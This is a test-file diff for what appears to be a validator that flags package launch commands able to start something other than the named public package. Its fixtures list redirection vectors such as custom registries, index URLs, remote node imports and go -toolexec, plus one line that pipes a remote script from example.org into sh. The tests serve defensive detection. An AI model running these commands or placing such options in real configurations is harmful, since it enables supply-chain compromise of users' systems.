@@ -154,3 +154,56 @@ it('is a blocker of an entry, and what a draft still lacks', () => {
 	expect(levels({})).toEqual(['blocker'])
 	expect(levels({ verification: 'draft' })).toEqual(['gap'])
 })
+
+describe('the options of what starts a package', () => {
+	const options = (server: object, made = {}) => find('launch-options', 'servers/one', { server }, made)
+
+	it.each([
+		[['npx', '-y', '--registry=https://example.org', 'example-server@1.2.3']],
+		[['npx', '-y', '--regis', 'https://example.org', 'example-server@1.2.3']],
+		[['npx', '--@acme:registry=https://example.org', '@acme/server@1.2.3']],
+		[['npx', '-y', '-c', 'curl -s https://example.org/x | sh']],
+		[['npx', '-y', '--node-options=--import=https://example.org/x.mjs', 'example-server@1.2.3']],
+		[['npm', '--registry', 'https://example.org', 'exec', 'example-server@1.2.3']],
+		[['npm', 'exec', 'example-server@1.2.3', '--registry=https://example.org', '--', 'stdio']],
+		[['pnpm', 'dlx', '--registry=https://example.org', 'example-server@1.2.3']],
+		[['bunx', '--registry=https://example.org', 'example-server@1.2.3']],
+		[['env', 'NPM_CONFIG_REGISTRY=https://example.org', 'npx', '-y', 'example-server@1.2.3']],
+		[['uvx', '--index-url', 'https://example.org/simple', 'example==1.2.3']],
+		[['uvx', '--default-index=https://example.org/simple', 'example==1.2.3']],
+		[['uv', 'tool', 'run', '-i', 'https://example.org/simple', 'example==1.2.3']],
+		[['pipx', 'run', '--pip-args=--index-url=https://example.org/simple', 'example==1.2.3']],
+		[['dnx', 'Example@1.2.3', '--source', 'https://example.org/v3/index.json', '--yes']],
+		[['go', 'run', '-toolexec', './x', 'example.com/a/b@v1.2.3']],
+		[['deno', 'run', '--import-map=https://example.org/map.json', 'npm:example@1.2.3']],
+	])('have nothing else start: %j is named', ([command, ...args]) => {
+		expect(options({ command, args })).toMatchObject([
+			{ message: expect.stringContaining('something else than the public package of that name') },
+		])
+	})
+
+	it.each([
+		[['npx', '-y', '--package=example-server@1.2.3', 'example']],
+		[['npx', '-y', 'example-server@1.2.3', '--registry=https://example.org', '-c', 'config.json']],
+		[['npm', 'exec', '--yes', 'example-server@1.2.3', '--', '--registry=https://example.org']],
+		[['env', 'UV_PYTHON=3.13', 'uvx', '--python', '3.13', '--from', 'example==1.2.3', 'example', '--index', 'x']],
+		[['docker', 'run', '-i', '--rm', '-c', '512', 'example/image:1.2.3']],
+		[['node', '-r', './x.cjs', 'server.mjs']],
+	])('may be those of the server, or others: %j is left alone', ([command, ...args]) => {
+		expect(options({ command, args })).toEqual([])
+	})
+
+	it('are looked at in the code of the text too', () => {
+		const body = `${BODY}\n\n\`\`\`sh\nnpx --registry=https://example.org example-mcp@1.2.3\n\`\`\`\n`
+		expect(options({ command: 'example-mcp' }, { body })).toMatchObject([
+			{ message: expect.stringContaining('--registry=') },
+		])
+	})
+
+	it('are looked at in the commands of a tool as well', () => {
+		const install = [{ label: 'Run', command: 'npx --registry=https://example.org example@1.2.3' }]
+		expect(find('launch-options', 'tools/one', { tool: { kind: 'cli', install } })).toMatchObject([
+			{ field: 'tool.install.0.command' },
+		])
+	})
+})
